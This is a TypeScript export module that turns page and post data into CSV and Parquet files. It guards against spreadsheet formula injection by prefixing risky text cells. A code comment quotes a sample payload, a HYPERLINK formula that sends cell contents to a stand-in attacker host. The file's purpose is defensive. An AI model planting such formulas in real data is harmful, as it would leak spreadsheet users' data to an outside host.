import Papa from 'papaparse';
import type { Db } from './db/index.ts';
import { DAILY_COLUMNS, POST_COLUMNS } from '../canonical.ts';
import { join, sql, ident, type Sql } from '../sql.ts';

export type ExportKind = 'daily' | 'posts';

export interface ExportQuery {
	pageId: number;
	kind: ExportKind;
	/** inclusive ISO days; for posts they bound published_at's day */
	from?: string;
	to?: string;
}

/** The canonical rows of one page, in canonical column order, ordered by day / published_at. */
export function exportQuery(q: ExportQuery): { sql: Sql; columns: readonly string[] } {
	const columns = q.kind === 'daily' ? DAILY_COLUMNS : POST_COLUMNS;
	const cols = join(
		columns.map((c) => {
			const id = ident(c, columns);
			if (c === 'day') return sql`strftime(day, '%Y-%m-%d') AS day`;
			if (c === 'published_at')
				return sql`strftime(published_at, '%Y-%m-%d %H:%M:%S') AS published_at`;
			return id;
		})
	);
	const dayExpr = q.kind === 'daily' ? sql`day` : sql`CAST(published_at AS DATE)`;
	const from = q.from ? sql` AND ${dayExpr} >= CAST(${q.from} AS DATE)` : sql``;
	const to = q.to ? sql` AND ${dayExpr} <= CAST(${q.to} AS DATE)` : sql``;
	const table = q.kind === 'daily' ? sql`page_daily` : sql`posts`;
	const order = q.kind === 'daily' ? sql`day` : sql`published_at NULLS LAST, post_id`;
	return {
		sql: sql`SELECT ${cols} FROM ${table} WHERE page_id = ${q.pageId}${from}${to} ORDER BY ${order}`,
		columns
	};
}

export async function exportRows(db: Db, q: ExportQuery) {
	const { sql: query, columns } = exportQuery(q);
	return { rows: await db.query<Record<string, unknown>>(query), columns };
}

/**
 * Formula injection: a spreadsheet runs a cell that starts with = + - @ (or a tab or carriage
 * return before one) as a formula, e.g. `=HYPERLINK("http://evil.example/?"&A1, "…")` planted in
 * a post text. Every CSV Sablier writes prefixes such TEXT cells with a single quote, as OWASP
 * advises; numbers are written as numbers (-12 stays -12, a negative count is not a formula).
 * JSON and Parquet exports stay exact. The regex spans lines (Papa's own default does not).
 */
export const FORMULA_START = /^[=+\-@\t\r]/;

/** A text cell as every Sablier CSV writes it (prefixed with ' when it would start a formula). */
export function csvSafe(value: string): string {
	return FORMULA_START.test(value) ? `'${value}` : value;
}

/**
 * CSV with the exact canonical header; NULL → empty cell; CRLF-free (\n) lines; text cells that a
 * spreadsheet would run as a formula are prefixed with ' (see FORMULA_START). Use it (or
 * `csvSafe`) for every CSV the app writes.
 */
export function toCsv(
	rows: readonly Record<string, unknown>[],
	columns: readonly string[]
): string {
	const data = rows.map((r) => columns.map((c) => (r[c] === null ? '' : r[c])));
	return (
		Papa.unparse({ fields: [...columns], data }, { newline: '\n', escapeFormulae: FORMULA_START }) +
		'\n'
	);
}

/**
 * Writes the rows as Parquet through DuckDB's COPY. COPY cannot take bound parameters, so the rows
 * are first selected (with parameters) into a temp table; only the output path is a literal,
 * quoted with doubled single quotes.
 */
export async function writeParquet(db: Db, q: ExportQuery, path: string): Promise<number> {
	if (/[\0\n\r]/.test(path)) throw new Error('invalid output path');
	const { sql: query } = exportQuery(q);
	const typed = sql`SELECT * REPLACE (CAST(${q.kind === 'daily' ? sql`day` : sql`published_at`} AS ${q.kind === 'daily' ? sql`DATE` : sql`TIMESTAMP`}) AS ${q.kind === 'daily' ? sql`day` : sql`published_at`}) FROM (${query})`;
	return db.transaction(async (tx) => {
		await tx.exec(sql`CREATE OR REPLACE TEMP TABLE export_rows AS ${typed}`);
		const [{ n }] = await tx.query<{ n: number }>('SELECT count(*)::INTEGER AS n FROM export_rows');
		await tx.exec(`COPY export_rows TO '${path.replaceAll("'", "''")}' (FORMAT parquet)`);
		await tx.exec('DROP TABLE export_rows');
		return n;
	});
}
